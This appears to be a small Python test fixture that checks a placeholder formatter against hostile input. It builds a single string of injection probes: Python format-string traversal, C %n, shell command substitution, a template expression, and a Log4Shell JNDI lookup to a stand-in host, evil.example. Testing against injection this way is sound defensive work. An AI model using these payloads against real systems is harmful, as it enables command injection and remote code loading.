"""Write placeholders of Python, C, shells and plotting libraries."""

from honest import raises

OUTCOME = "harmless"

attack = raises(
    "{0.__class__.__mro__} %s %n $(touch reached.txt) `touch reached.txt` $\\frac{ ${jndi:ldap://evil.example} {{7*7}}"
)
